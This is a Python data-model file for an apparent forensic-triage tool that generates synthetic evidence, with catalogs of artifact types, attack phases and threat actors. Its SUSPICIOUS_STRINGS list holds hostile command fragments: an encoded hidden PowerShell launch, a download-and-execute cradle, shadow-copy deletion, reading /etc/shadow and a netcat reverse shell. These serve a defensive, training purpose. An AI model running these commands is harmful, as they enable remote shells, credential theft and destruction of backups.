# ============================================================================
# triage/data/artifact.py
# Artifact Model - One Unit of Synthetic Forensic Evidence
# ============================================================================
#
# PURPOSE:
# Defines what an artifact looks like once it enters the evidence feed, plus
# the fixed catalogs the synthesizer draws from (evidence source kinds,
# attack-lifecycle phases, threat actors, suspicious command strings).
#
# IMMUTABILITY:
# An artifact is fixed at creation. The single exception is
# `included_in_report`, which the triage policy or an analyst flips.
# Writing any other field after construction raises InvariantViolation
# instead of silently corrupting the evidence record.
#
# ============================================================================

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum
from typing import Any, Dict, Optional, Tuple

from triage.errors import ErrorCode, InvariantViolation

UNKNOWN_ACTOR = "Unknown"


class Severity(str, Enum):
    LOW = "Low"
    HIGH = "High"
    CRITICAL = "Critical"


class ArtifactType(str, Enum):
    WINDOWS_EVENT_LOG = "Windows Event Log"
    PREFETCH = "Prefetch"
    REGISTRY_KEY = "Registry Key"
    MEMORY_DUMP = "Memory Dump"
    PCAP_STREAM = "PCAP Stream"
    MFT_ENTRY = "MFT Entry"
    SHIMCACHE = "Shimcache"
    AMCACHE = "Amcache"
    POWERSHELL_HISTORY = "PowerShell History"
    BASH_HISTORY = "Bash History"
    CRON_JOB = "Cron Job"
    SYSTEMD_SERVICE = "Systemd Service"


class Phase(str, Enum):
    """Attack-lifecycle phases, declared in display order."""
    RECONNAISSANCE = "Reconnaissance"
    RESOURCE_DEV = "Resource Dev"
    INITIAL_ACCESS = "Initial Access"
    EXECUTION = "Execution"
    PERSISTENCE = "Persistence"
    PRIVILEGE_ESC = "Privilege Esc"
    DEFENSE_EVASION = "Defense Evasion"
    CREDENTIAL_ACCESS = "Credential Access"
    DISCOVERY = "Discovery"
    LATERAL_MOVE = "Lateral Move"
    COLLECTION = "Collection"
    EXFILTRATION = "Exfiltration"
    COMMAND_AND_CONTROL = "Command & Control"

    @property
    def order(self) -> int:
        return list(Phase).index(self)


class AntiForensicsMethod(str, Enum):
    TIMESTOMPING = "Timestomping"
    LOG_WIPING = "Log Wiping"


@dataclass(frozen=True)
class ThreatActor:
    name: str
    origin: str
    actor_type: str


THREAT_ACTORS: Tuple[ThreatActor, ...] = (
    ThreatActor("APT29 (Cozy Bear)", "RU", "State-Sponsored"),
    ThreatActor("Lazarus Group", "KP", "State-Sponsored"),
    ThreatActor("FIN7", "Eastern Europe", "Financially Motivated"),
    ThreatActor("Wizard Spider", "Unknown", "Ransomware Cartel"),
)

SUSPICIOUS_STRINGS: Tuple[str, ...] = (
    "powershell.exe -nop -w hidden -enc",
    "vssadmin delete shadows /all /quiet",
    "whoami /priv",
    'net group "Domain Admins" /domain',
    "IEX (New-Object Net.WebClient).DownloadString",
    "rundll32.exe shell32.dll",
    "chmod 777 /tmp/.payload",
    "cat /etc/shadow",
    "nc -e /bin/sh 10.10.10.10",
)


@dataclass(frozen=True)
class Attribution:
    actor_name: str
    confidence_score: float
    origin_country: str
    actor_type: Optional[str] = None

    @property
    def is_known(self) -> bool:
        return self.actor_name != UNKNOWN_ACTOR

    def to_dict(self) -> Dict[str, Any]:
        return {
            "actor_name": self.actor_name,
            "confidence_score": self.confidence_score,
            "origin_country": self.origin_country,
            "actor_type": self.actor_type,
        }


MUTABLE_FIELDS = frozenset({"included_in_report"})


@dataclass
class Artifact:
    """
    Synthetic forensic artifact.

    timestamp is virtual ingestion time in seconds. verdict_text and raw_hex
    are presentation payloads, fixed at creation like everything else.
    """
    id: str
    type: ArtifactType
    phase: Phase
    timestamp: float
    severity: Severity
    tampered: bool
    attribution: Attribution
    entropy: float
    matched_strings: Tuple[str, ...] = ()
    anti_forensics_method: Optional[AntiForensicsMethod] = None
    verdict_text: str = ""
    raw_hex: str = ""
    included_in_report: bool = False

    _sealed: bool = field(default=False, init=False, repr=False, compare=False)

    def __post_init__(self):
        object.__setattr__(self, "matched_strings", tuple(self.matched_strings))
        object.__setattr__(self, "_sealed", True)

    def __setattr__(self, name: str, value: Any) -> None:
        if getattr(self, "_sealed", False) and name not in MUTABLE_FIELDS:
            raise InvariantViolation(
                ErrorCode.ARTIFACT_IMMUTABLE_FIELD,
                f"{self.id}: field '{name}' is immutable once the artifact exists",
                details={"artifact_id": self.id, "field": name},
            )
        object.__setattr__(self, name, value)

    def __delattr__(self, name: str) -> None:
        raise InvariantViolation(
            ErrorCode.ARTIFACT_IMMUTABLE_FIELD,
            f"{self.id}: fields cannot be deleted",
            details={"artifact_id": self.id, "field": name},
        )

    @property
    def malicious(self) -> bool:
        return self.severity != Severity.LOW

    def to_dict(self) -> Dict[str, Any]:
        return {
            "id": self.id,
            "type": self.type.value,
            "phase": self.phase.value,
            "timestamp": self.timestamp,
            "severity": self.severity.value,
            "tampered": self.tampered,
            "anti_forensics_method": (
                self.anti_forensics_method.value if self.anti_forensics_method else None
            ),
            "attribution": self.attribution.to_dict(),
            "entropy": self.entropy,
            "matched_strings": list(self.matched_strings),
            "verdict_text": self.verdict_text,
            "raw_hex": self.raw_hex,
            "included_in_report": self.included_in_report,
        }
